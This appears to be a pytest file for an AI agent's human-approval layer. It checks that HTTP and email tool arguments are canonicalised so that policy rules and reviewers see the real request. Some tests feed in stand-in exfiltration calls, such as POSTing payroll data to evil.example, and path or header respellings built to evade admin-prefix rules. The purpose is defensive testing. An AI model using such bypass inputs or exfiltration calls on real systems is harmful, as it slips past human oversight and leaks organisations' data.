"""One canonical form of arguments for the policy, the card, the approval and the tool (docs/decisions/0010).

Real PostgreSQL (jsonb round trips), the real core, the real `http_request` tool against a
local HTTP target, the real `send_email` tool against a local SMTP server.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from pydantic import SecretStr

from bot.agents import prompts
from bot.agents.subagent_specs import SubagentSpec
from bot.audit.entries import AuditKind
from bot.base.agent_kind import AgentKind
from bot.base.errors import InvalidDecisionError
from bot.base.mode import Mode
from bot.policy.config import ALL, SettingKey
from bot.reviews.decisions import Approve, Edit, EditedAction
from bot.reviews.lifecycle import ApprovalStatus
from bot.settings import ToolSettings
from bot.tools.builtin import builtin_tools
from bot.tools.refusals import refusal
from bot.tools.registry import ToolRegistry, ToolSpec
from tests.support.http_target import HttpTarget
from tests.support.recording_platform import RecordingPlatform
from tests.support.scripted_model import ScriptedChatModel, calls, tool_call
from tests.support.service import actor, message, open_service
from tests.support.smtp_target import smtp_server

HUGE = 2**70
"""Beyond 64 bits: a float in the checkpoint, an integer of another value in jsonb."""


def _transfer_registry(ran: list[tuple[float, str]]) -> ToolRegistry:
    @tool
    async def transfer(amount: float, note: str) -> str:
        """Move money."""
        ran.append((amount, note))
        return "moved"

    return ToolRegistry([ToolSpec(tool=transfer, default_mode=Mode.REVIEW)])


async def _pending(h, text: str = "go"):
    await h.service.handle_message(message(text))
    [card] = [c for c in h.platform.cards.values() if c.approval.status is ApprovalStatus.PENDING]
    return card.approval


async def _quorum(h, tool_name: str, n: int) -> None:
    await h.config.set_setting(actor("root", is_admin=True), SettingKey.QUORUM, n, tool_name=tool_name)


async def test_a_huge_integer_is_shown_edited_and_run_as_one_value(db_url):
    """The card shows the number the tool gets; an edit of the prefilled arguments is accepted and runs."""
    ran: list[tuple[float, str]] = []
    model = ScriptedChatModel(replies=[calls(tool_call("transfer", {"amount": HUGE, "note": "a"})), AIMessage("done")])
    async with open_service(db_url, model, _transfer_registry(ran)) as h:
        approval = await _pending(h)
        assert approval.args_under_vote == {"amount": float(HUGE), "note": "a"}  # what the form prefills
        decided = await h.service.decide(
            approval.id,
            actor("alice"),
            Edit(edited_action=EditedAction(name="transfer", args={**approval.args_under_vote, "note": "b"})),
        )
        await h.service.tasks.join()
        audit = await h.audit.recent("W1")
    assert decided.status is ApprovalStatus.EDITED
    assert decided.final_args == {"amount": float(HUGE), "note": "b"}
    assert ran == [(float(HUGE), "b")]
    assert h.platform.updates[-1].approval.final_args == {"amount": float(HUGE), "note": "b"}
    assert audit[0].final_args == {"amount": float(HUGE), "note": "b"}
    assert prompts.NOT_APPROVED_MESSAGE not in str(model.prompts[-1])


async def test_quorum_after_an_edit_with_a_huge_integer_is_reached_and_runs_once(db_url):
    """An editor's approval and a later approval of the same edited arguments count together; the call runs."""
    ran: list[tuple[float, str]] = []
    model = ScriptedChatModel(replies=[calls(tool_call("transfer", {"amount": HUGE, "note": "a"})), AIMessage("done")])
    platform = RecordingPlatform(admins={"bob"})
    async with open_service(db_url, model, _transfer_registry(ran), platform) as h:
        await _quorum(h, "transfer", 2)
        approval = await _pending(h)
        edited = await h.service.decide(
            approval.id,
            actor("alice"),
            Edit(edited_action=EditedAction(name="transfer", args={"amount": float(HUGE), "note": "b"})),
        )
        assert edited.status is ApprovalStatus.PENDING and edited.votes == ("alice",)
        shown = await h.service.approval(approval.id)
        decided = await h.service.decide(approval.id, actor("bob"), Approve(), seen_version=shown.version)
        await h.service.tasks.join()
    assert decided.status is ApprovalStatus.EDITED and set(decided.votes) == {"alice", "bob"}
    assert ran == [(float(HUGE), "b")]
    assert prompts.NOT_APPROVED_MESSAGE not in str(model.prompts[-1])


@pytest.fixture
async def target():
    async with HttpTarget() as server:
        yield server


def _http_registry(target: HttpTarget) -> ToolRegistry:
    return ToolRegistry(builtin_tools(ToolSettings(http_allowed_hosts=(target.host,))))


async def test_a_condition_judges_the_canonical_url_and_the_card_shows_it(db_url, target):
    """A GET spelled with an upper-case scheme, a trailing dot, `..` and a fragment still meets `startsWith`; card and request agree."""
    written = f"HTTP://127.0.0.1.:{target.port}/x/%2E%2e/admin/reset#now"
    canonical = f"http://127.0.0.1:{target.port}/admin/reset"
    model = ScriptedChatModel(
        replies=[calls(tool_call("http_request", {"method": "get", "url": written})), AIMessage("done")]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True),
            channel_id=ALL,
            tool_name="http_request",
            mode=Mode.REVIEW,
            condition=f"args.url.startsWith('http://127.0.0.1:{target.port}/admin/')",
        )
        approval = await _pending(h)
        assert target.requests == []
        assert approval.proposed_args == {"method": "GET", "url": canonical}
        await h.service.decide(approval.id, actor("alice"), Approve())
        await h.service.tasks.join()
    assert [(r.method, r.path) for r in target.requests] == [("GET", "/admin/reset")]


async def test_an_edit_with_a_user_name_in_the_url_is_refused_and_changes_nothing(db_url, target):
    """The editor is told why; the card keeps its arguments and version, the refusal is audited, and it still works."""
    url = target.url("/things")
    model = ScriptedChatModel(
        replies=[calls(tool_call("http_request", {"method": "POST", "url": url, "body": {"a": 1}})), AIMessage("ok")]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        approval = await _pending(h)
        bad = {"method": "POST", "url": f"http://deploy:secret@{target.host}/things", "body": {"a": 1}}
        with pytest.raises(InvalidDecisionError) as refused:
            await h.service.decide(
                approval.id, actor("alice"), Edit(edited_action=EditedAction(name="http_request", args=bad))
            )
        assert "user name or password" in refused.value.message
        assert refused.value.field == "args.url"
        after = await h.service.approval(approval.id)
        assert after.status is ApprovalStatus.PENDING
        assert after.args_under_vote == approval.args_under_vote and after.version == approval.version
        [row] = await h.audit.recent("W1")
        assert (row.kind, row.outcome) == (AuditKind.REFUSED, "invalid")
        assert target.requests == []
        await h.service.decide(approval.id, actor("alice"), Approve(), seen_version=approval.version)
        await h.service.tasks.join()
    assert [(r.method, r.path, r.json) for r in target.requests] == [("POST", "/things", {"a": 1})]


async def test_an_edit_that_only_respells_the_url_keeps_the_approvals_of_that_request(db_url, target):
    """Re-spelling the URL is no new version: a quorum vote from the card drawn before it still counts."""
    url = target.url("/things")
    model = ScriptedChatModel(
        replies=[calls(tool_call("http_request", {"method": "DELETE", "url": url})), AIMessage("ok")]
    )
    platform = RecordingPlatform(admins={"bob"})
    async with open_service(db_url, model, _http_registry(target), platform) as h:
        await _quorum(h, "http_request", 2)
        approval = await _pending(h)
        respelled = {"method": "delete", "url": f"HTTP://127.0.0.1.:{target.port}/a/../things#x"}
        voted = await h.service.decide(
            approval.id, actor("alice"), Edit(edited_action=EditedAction(name="http_request", args=respelled))
        )
        assert voted.version == approval.version and voted.votes == ("alice",)
        assert voted.args_under_vote == {"method": "DELETE", "url": url}
        decided = await h.service.decide(approval.id, actor("bob"), Approve(), seen_version=approval.version)
        await h.service.tasks.join()
    assert decided.status is ApprovalStatus.APPROVED
    assert [(r.method, r.path) for r in target.requests] == [("DELETE", "/things")]


EXTERNAL_RULE = "args.to.exists(a, a.endsWith('@external.example'))"
"""Review mail to the outside world; mail inside the company goes without a card."""


def _address_echo(messages) -> AIMessage:
    """The model mails whoever the message names, then says what the tool answered."""
    last = messages[-1]
    if last.type == "tool":
        return AIMessage(f"tool said: {last.text}")
    return calls(tool_call("send_email", {"to": [last.text], "subject": "Report", "body": "numbers"}))


@pytest.mark.parametrize(
    "written",
    [
        "a@EXTERNAL.example",
        "a@external.example.",
        "  a@external.example ",
        "a@\uff45\uff58\uff54\uff45\uff52\uff4e\uff41\uff4c.example",  # full-width letters
        "a@external\u3002example",  # ideographic full stop
        "A@External.Example.",
    ],
)
async def test_a_condition_on_recipients_is_not_passed_by_another_spelling(db_url, written):
    """A rule on `args.to` sees the canonical address: the call waits for a card showing it, and the
    SMTP server receives exactly that address once it is approved."""
    with smtp_server() as smtp:
        settings = ToolSettings(smtp_url=SecretStr(smtp.url), smtp_from="bot@corp.example")
        model = ScriptedChatModel(script=_address_echo)
        async with open_service(db_url, model, ToolRegistry(builtin_tools(settings))) as h:
            await h.config.set_rule(
                actor("root", is_admin=True),
                channel_id=ALL,
                tool_name="send_email",
                mode=Mode.REVIEW,
                condition=EXTERNAL_RULE,
            )
            approval = await _pending(h, written)
            assert smtp.recorder.messages == []
            assert approval.proposed_args["to"] == ["a@external.example"]
            await h.service.decide(approval.id, actor("alice"), Approve())
            await h.service.tasks.join()
            await h.service.handle_message(message("colleague@CORP.example.", message_id="inside"))
    outside, inside = smtp.recorder.messages
    assert outside.rcpt_tos == ["a@external.example"] and outside.message["To"] == "a@external.example"
    assert inside.rcpt_tos == ["colleague@corp.example"]  # no card: the rule does not hold
    assert len(h.platform.cards) == 1
    assert h.platform.answers[-1][1] == "tool said: Sent to colleague@corp.example."


async def test_a_condition_on_a_header_name_holds_for_any_case(db_url, target):
    """Header names are lower case in the canonical arguments: `X-Sudo` meets a rule on `x-sudo`, and
    the request carries the name as the card showed it."""
    url = target.url("/things")
    model = ScriptedChatModel(
        replies=[
            calls(tool_call("http_request", {"method": "GET", "url": url, "headers": {"X-SUDO": " yes "}})),
            AIMessage("done"),
        ]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True),
            channel_id=ALL,
            tool_name="http_request",
            mode=Mode.REVIEW,
            condition="args.method != 'GET' || (has(args.headers) && 'x-sudo' in args.headers)",
        )
        approval = await _pending(h)
        assert target.requests == []
        assert approval.proposed_args["headers"] == {"x-sudo": "yes"}
        await h.service.decide(approval.id, actor("alice"), Approve())
        await h.service.tasks.join()
    [sent] = target.requests
    assert sent.headers.get("x-sudo") == "yes"


@pytest.mark.parametrize(
    "path", ["/public//admin", "/public/..;/admin", "/public/..%2Fadmin", "/public/%2e%2e;x/admin"]
)
async def test_a_path_servers_resolve_differently_is_never_sent(db_url, target, path):
    """`//`, `..;` and an encoded `/` could reach `/admin` past a prefix rule: the tool refuses them (no
    canonical form), so the call is answered at once with its reason, with no card, and nothing is sent."""
    model = ScriptedChatModel(
        replies=[calls(tool_call("http_request", {"method": "GET", "url": target.url(path)})), AIMessage("done")]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True),
            channel_id=ALL,
            tool_name="http_request",
            mode=Mode.REVIEW,
            condition="url(args.url).getEscapedPath().startsWith('/admin')",
        )
        await h.service.handle_message(message("go"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    assert target.requests == [] and h.platform.cards == {}
    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
    assert result.status == "error" and result.text.startswith("Error:") and "path" in result.text


@pytest.mark.parametrize("path", ["/admin./users", "/admin%20/users", "/admin%2e/users", "/admin .../users"])
async def test_a_segment_windows_strips_cannot_pass_a_path_prefix_rule(db_url, target, path):
    """`/admin./users` is `/admin/users` to IIS: the tool refuses it (no canonical form), so under the
    `/admin/` prefix rule of docs/admin-commands.md the GET is answered at once with its reason, with no card, and nothing is sent."""
    model = ScriptedChatModel(
        replies=[calls(tool_call("http_request", {"method": "GET", "url": target.url(path)})), AIMessage("done")]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True),
            channel_id=ALL,
            tool_name="http_request",
            mode=Mode.REVIEW,
            condition="url(args.url).getEscapedPath().startsWith('/admin/')",
        )
        await h.service.handle_message(message("go"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    assert target.requests == [] and h.platform.cards == {}
    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
    assert result.text.startswith("Error: the URL path ") and "ending in `.` or a space" in result.text


async def test_a_header_name_with_an_underscore_cannot_pass_a_rule_on_its_dashed_name(db_url, target):
    """CGI-style servers read `x_sudo` as `x-sudo`: the tool refuses it, so under a rule on `'x-sudo'` a GET with it
    is answered at once with the reason, with no card, and nothing is sent."""
    model = ScriptedChatModel(
        replies=[
            calls(tool_call("http_request", {"method": "GET", "url": target.url(), "headers": {"X_Sudo": "yes"}})),
            AIMessage("done"),
        ]
    )
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True),
            channel_id=ALL,
            tool_name="http_request",
            mode=Mode.REVIEW,
            condition="args.method != 'GET' || (has(args.headers) && 'x-sudo' in args.headers)",
        )
        await h.service.handle_message(message("go"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    assert target.requests == [] and h.platform.cards == {}
    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
    assert result.text.startswith("Error: the header name 'X_Sudo' has a `_`")


async def test_every_surface_shows_an_edit_refusal_as_one_sentence(db_url, target):
    """A refused edit reads as a sentence on Slack, Discord and the terminal: the canonical form's clause gets its
    final period, and a refusal that has one already (the allow-list's) does not get a second."""
    from adapters.console import messages as console_msg
    from adapters.discord.errors import edit_refusal_text
    from adapters.slack.errors import edit_refusal_text as slack_text
    from adapters.words.decisions import edit_error_text

    url = target.url("/things")
    model = ScriptedChatModel(replies=[calls(tool_call("http_request", {"method": "POST", "url": url})), AIMessage("")])
    async with open_service(db_url, model, _http_registry(target)) as h:
        approval = await _pending(h)
        refusals = []
        for bad_url in (target.url("/a//b"), "http://unlisted.example/things"):
            edit = Edit(edited_action=EditedAction(name="http_request", args={"method": "POST", "url": bad_url}))
            with pytest.raises(InvalidDecisionError) as refused:
                await h.service.decide(approval.id, actor("alice"), edit)
            refusals.append(refused.value)
    path, host = refusals
    for shown in (slack_text(path), edit_refusal_text(path), edit_error_text(path, console_msg, str)):
        assert shown.startswith("Your edit was not applied: "), shown
        assert "remove the extra `/`. Nothing was changed; " in shown, shown
    assert "remove the extra `/`. Nothing was changed; press **Edit again**" in edit_refusal_text(path)
    for shown in (slack_text(host), edit_refusal_text(host), edit_error_text(host, console_msg, str)):
        assert "HTTP_REQUEST_ALLOWED_HOSTS." in shown and ".." not in shown, shown


def _documented_recipient_rule() -> str:
    """The deny-list condition on recipients' domains that docs/admin-commands.md, "Writing conditions that hold", gives."""
    page = (Path(__file__).parents[3] / "docs" / "admin-commands.md").read_text(encoding="utf-8")
    section = page.split("## Writing conditions that hold", 1)[1].split("Not safe as a deny-list", 1)[0]
    bullet = section.split("- a domain of a recipient", 1)[1].split("\n- ", 1)[0]
    return next(code for code in re.findall(r"`([^`]+)`", bullet) if "endsWith('@external.example')" in code)


async def test_the_readmes_recipient_rule_holds_for_every_recipient_field(db_url):
    """The documented rule on recipients' domains (docs/admin-commands.md) catches an outside address in `cc` too: the mail waits for a card."""
    rule = _documented_recipient_rule()
    reply = calls(
        tool_call(
            "send_email", {"to": ["colleague@corp.example"], "cc": ["a@external.example"], "subject": "s", "body": "b"}
        )
    )
    with smtp_server() as smtp:
        settings = ToolSettings(smtp_url=SecretStr(smtp.url), smtp_from="bot@corp.example")
        model = ScriptedChatModel(replies=[reply, AIMessage("done")])
        async with open_service(db_url, model, ToolRegistry(builtin_tools(settings))) as h:
            await h.config.set_rule(
                actor("root", is_admin=True), channel_id=ALL, tool_name="send_email", mode=Mode.REVIEW, condition=rule
            )
            approval = await _pending(h)
            assert approval.proposed_args["cc"] == ["a@external.example"]
        assert smtp.recorder.messages == []


async def _nothing_asked_or_run(h) -> bool:
    """No review or approval row, and no run in the ledger (no tool call was claimed)."""
    counts = await h.database.pool.fetchrow(
        "SELECT (SELECT count(*) FROM reviews) AS reviews, (SELECT count(*) FROM approvals) AS approvals, "
        "(SELECT count(*) FROM tool_runs) AS runs"
    )
    return (counts["reviews"], counts["approvals"], counts["runs"]) == (0, 0, 0)


@pytest.mark.parametrize("mode", [None, Mode.AUTO], ids=["reviewed", "auto"])
async def test_a_request_to_a_host_that_is_not_allowed_asks_nobody_and_is_answered_at_once(db_url, target, mode):
    """A POST to a host outside HTTP_REQUEST_ALLOWED_HOSTS, reviewed by default or `auto` by an admin's rule: no
    approval row, no card, nothing sent; the model reads the tool's reason in the same turn and answers."""
    bad = {"method": "POST", "url": "https://evil.example/collect", "body": {"payroll": "all"}}
    model = ScriptedChatModel(replies=[calls(tool_call("http_request", bad)), AIMessage("that host is not allowed")])
    async with open_service(db_url, model, _http_registry(target)) as h:
        if mode is not None:
            await h.config.set_rule(
                actor("root", is_admin=True), channel_id=ALL, tool_name="http_request", mode=mode, condition=None
            )
        await h.service.handle_message(message("send the payroll out"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    assert h.platform.cards == {} and target.requests == []
    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
    problem = refusal(_http_registry(target).get("http_request").tool, bad)  # the tool's own words
    assert problem is not None and "host evil.example is not allowed" in problem
    assert "HTTP_REQUEST_ALLOWED_HOSTS" in problem
    assert result.status == "error" and result.text == prompts.REFUSED_BY_TOOL.format(
        problem=problem, name="http_request"
    )
    assert h.platform.answers[-1][1] == "that host is not allowed"


async def test_a_denied_tool_stays_denied_when_it_would_refuse_the_arguments_too(db_url, target):
    """An admin denies http_request: a request to a host that is not allowed reads the policy's rejection."""
    bad = {"method": "POST", "url": "https://evil.example/collect"}
    model = ScriptedChatModel(replies=[calls(tool_call("http_request", bad)), AIMessage("denied")])
    async with open_service(db_url, model, _http_registry(target)) as h:
        await h.config.set_rule(
            actor("root", is_admin=True), channel_id=ALL, tool_name="http_request", mode=Mode.DENY, condition=None
        )
        await h.service.handle_message(message("send it"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    [result] = [m for m in model.prompts[-1] if m.type == "tool"]
    assert result.text == prompts.REJECTED_BY_POLICY.format(name="http_request")


async def test_an_email_to_an_address_with_a_display_name_asks_nobody_and_is_answered_at_once(db_url):
    """`send_email` to "Ana <a@x.example>": no approval row, no card, no mail; the model reads why in the same turn."""
    with smtp_server() as smtp:
        settings = ToolSettings(smtp_url=SecretStr(smtp.url), smtp_from="bot@corp.example")
        model = ScriptedChatModel(script=_address_echo)
        async with open_service(db_url, model, ToolRegistry(builtin_tools(settings))) as h:
            await h.service.handle_message(message("Ana <a@x.example>"))
            await h.service.tasks.join()
            assert await _nothing_asked_or_run(h)
    assert smtp.recorder.messages == [] and h.platform.cards == {}
    answer = h.platform.answers[-1][1]
    assert answer.startswith("tool said: Error: 'Ana <a@x.example>' is not a bare email address")
    assert "nobody was asked to approve it" in answer


POSTER = SubagentSpec(name="poster", description="Posts things.", prompt="You are poster.", tools=("http_request",))


async def test_a_subagent_call_its_tool_refuses_asks_nobody_and_is_answered_at_once(db_url, target):
    """Inside a delegation, a POST to a host that is not allowed: no approval row, no card, nothing sent; the
    subagent reads the tool's reason and reports it to the supervisor, which answers in the same turn."""
    bad = {"method": "POST", "url": "https://evil.example/collect", "body": {"x": 1}}

    def script(messages) -> AIMessage:
        last, system = messages[-1], str(messages[0].content)
        if system.startswith(POSTER.prompt):
            return AIMessage(f"poster: {last.text}") if last.type == "tool" else calls(tool_call("http_request", bad))
        if last.type == "tool":
            return AIMessage(f"answer: {last.text}")
        return calls(tool_call("poster", {"query": "post x to evil.example"}))

    model = ScriptedChatModel(script=script)
    async with open_service(
        db_url, model, _http_registry(target), subagents=(POSTER,), default_agent=AgentKind.SUBAGENTS
    ) as h:
        await h.service.handle_message(message("post x"))
        await h.service.tasks.join()
        assert await _nothing_asked_or_run(h)
    assert h.platform.cards == {} and target.requests == []
    answer = h.platform.answers[-1][1]
    assert answer.startswith("answer: poster: Error: host evil.example is not allowed.")
    assert "nobody was asked to approve it" in answer
